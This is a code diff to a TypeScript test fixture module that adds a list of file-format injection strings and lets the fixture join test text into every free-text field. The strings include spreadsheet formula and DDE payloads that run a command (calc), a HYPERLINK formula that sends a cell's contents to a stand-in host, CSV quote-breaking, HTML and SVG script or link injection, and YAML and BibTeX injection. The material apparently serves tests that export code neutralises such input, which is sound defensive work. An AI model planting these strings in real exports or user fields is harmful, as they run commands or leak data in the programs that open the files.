@@ -18,12 +18,33 @@ function restated(statement: Statement, renamed: (line: string) => string): Stat
   return "other" in own ? { ...own, other: renamed(own.other) } : own;
 }
 
-/** The fixture in which `text` stands at the end of every free text. */
-export function withTexts(text: (place: number) => string): Result {
+/** What is dangerous in files that other programs open: formulas, markup, and pieces that end what they stand in. */
+export const FILE_ATTACKS = [
+  ...ATTACKS,
+  '=HYPERLINK("http://x.y?"&A1,"more")',
+  "+1+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
+  "\t=1+1",
+  "\uff1d1+1",
+  '","=1+1","',
+  '"\r\n=1+1,2\r\n"',
+  "| a | b |\n|---|---|\n# head\n![x](http://x.y/z.png) [y](http://x.y) @name #12",
+  "```\n</summary></details><img src=x onerror=alert(7)>\n- item",
+  "</text><image href='http://x.y'/><a href='http://x.y'>z</a>",
+  "x\nmachine: { cores: 64 }\n# '\"",
+  "}, note = {\\input{x}},\n}",
+];
+
+/** The fixture in which `text` stands at the end of every free text, or where `joined` puts it. */
+export function withTexts(
+  text: (place: number) => string,
+  joined = (start: string, end: string) => `${start} ${end}`,
+): Result {
   const result = fixtureResult();
   const { scenario } = result;
   let place = 0;
-  const next = (start: string) => `${start} ${text(place++)}`;
+  const next = (start: string) => joined(start, text(place++));
   const rename = new Map(scenario.lines.map((line) => [line.id, next(line.id)]));
   for (const line of scenario.lines) {
     line.id = rename.get(line.id)!;
